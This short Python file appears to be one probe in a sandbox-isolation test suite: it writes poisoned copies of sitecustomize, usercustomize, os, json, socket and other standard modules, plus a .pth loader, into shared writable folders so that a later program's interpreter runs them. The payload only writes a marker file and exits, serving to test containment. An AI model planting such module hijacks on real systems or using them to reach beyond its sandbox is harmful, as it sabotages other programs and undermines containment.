"""Leave Python modules where the interpreter of a later program looks: user site, start-up file, current folder.

origin: usercustomize, sitecustomize and .pth files; poisoned virtual environments
stopped by: writable folders are made for one sandbox; the supervisor's interpreter is isolated
control: none: what matters is who runs afterwards, which the neighbour's health shows
"""

import os
import sys

from attempt import tried

POISON = "import os\nopen('/workspace/SUCCEEDED', 'w').write(str(os.getpid()))\nos._exit(99)\n"
version = f"python{sys.version_info.major}.{sys.version_info.minor}"
for folder in (".", "/tmp", f"/tmp/.local/lib/{version}/site-packages", "/dev/shm"):
    os.makedirs(folder, exist_ok=True)
    for (
        module
    ) in "sitecustomize usercustomize os json re socket struct signal select encodings collections stat".split():
        open(f"{folder}/{module}.py", "w").write(POISON)
    open(f"{folder}/poison.pth", "w").write("import usercustomize\n")
tried("poisoned modules")
